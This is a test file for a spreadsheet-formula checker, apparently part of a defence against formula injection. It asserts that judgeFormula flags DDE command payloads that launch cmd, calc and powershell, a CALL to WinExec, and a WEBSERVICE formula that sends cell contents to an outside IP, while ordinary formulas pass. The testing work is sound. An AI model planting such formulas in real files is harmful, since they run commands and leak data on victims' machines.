import { describe, expect, it } from "vitest";
import { judgeFormula } from "./excel-formulas.ts";

describe("judgeFormula", () => {
  it("refuses DDE references, however the program and topic are quoted", () => {
    for (const formula of [
      "cmd|' /C calc'!A0",
      "=cmd|'/c powershell'!A1",
      "'cmd'|'/c calc'!A0",
      "SUM(1)+msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''",
    ]) {
      expect(judgeFormula(formula), formula).toBe("office-dde");
    }
  });

  it("keeps a | inside a string or a quoted sheet name", () => {
    expect(judgeFormula('CONCAT("a|b", A1)')).toBeUndefined();
    expect(judgeFormula("'職歴|2024'!A1")).toBeUndefined();
    expect(judgeFormula('"He said ""a|b"""&A1')).toBeUndefined();
  });

  it("refuses functions that call programs or fetch URLs, and keeps ordinary ones", () => {
    expect(judgeFormula('RTD("progid",,"x")')).toBe("office-dde");
    expect(judgeFormula('CALL("kernel32","WinExec","JCJ","calc",0)')).toBe("office-dde");
    expect(judgeFormula('_xlfn.WEBSERVICE("https://203.0.113.9/?"&A1)')).toBe("office-external-link");
    expect(judgeFormula("SUM(A1:A9)+VLOOKUP(B1,Sheet2!A:B,2,FALSE)")).toBeUndefined();
    expect(judgeFormula('"RTD(" & A1')).toBeUndefined();
  });
});
